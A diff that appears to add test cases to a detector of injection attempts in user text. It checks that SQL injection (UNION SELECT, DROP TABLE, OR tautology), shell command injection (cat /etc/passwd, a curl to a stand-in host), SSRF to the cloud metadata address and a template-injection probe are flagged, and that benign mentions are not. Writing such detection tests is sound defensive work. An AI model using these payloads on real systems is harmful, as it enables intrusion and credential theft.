@@ -88,6 +88,31 @@ test.each([
   expect(form(text)).toBeGreaterThanOrEqual(CLEAR)
 })
 
+test.each([
+  "Great service and friendly people' UNION SELECT name,2 FROM users-- -",
+  "Thank you for the answer'; DROP TABLE orders-- and that is all, please",
+  "Please call me before noon' OR 'a'='a",
+  'Thank you for the quick answer; cat /etc/passwd',
+  'The parcel came on Monday $(curl http://evil.test/x) and was fine',
+  'Please have a look at http://169.254.169.254/latest/meta-data/ and tell me',
+  'My picture is at (http://0xa9fea9fe/a.png), thanks for the help',
+])('a sentence in the midst of which it works: %s', (text) => {
+  expect(json(text)).toBeGreaterThanOrEqual(CLEAR)
+  expect(form(text)).toBeGreaterThanOrEqual(CLEAR)
+})
+
+test.each([
+  "Is 'OR 1=1' always true, and why do tutorials use it?",
+  'She said "OR 1=1" and I wrote it down in the manual',
+  'How do I find them: ps aux | grep node | sort | uniq -c?',
+  'Then type cd /var/www; ls -la and send me what it says.',
+  'Try http://localhost:3000 in your browser, then http://10.0.0.5:8080/admin.',
+  "It's 1 o'clock; drop me a line -- or don't",
+])('a sentence that quotes it, asks about it, or goes on with words: %s', (text) => {
+  expect(json(text)).toBeLessThan(CLEAR)
+  expect(form(text)).toBeLessThan(CLEAR)
+})
+
 test('claims of a token and short commands in base64 are read', () => {
   const claims = Buffer.from(JSON.stringify({ sub: '{{7*7}}' })).toString('base64url')
   const get = (headers: [string, string][], target = '/') =>
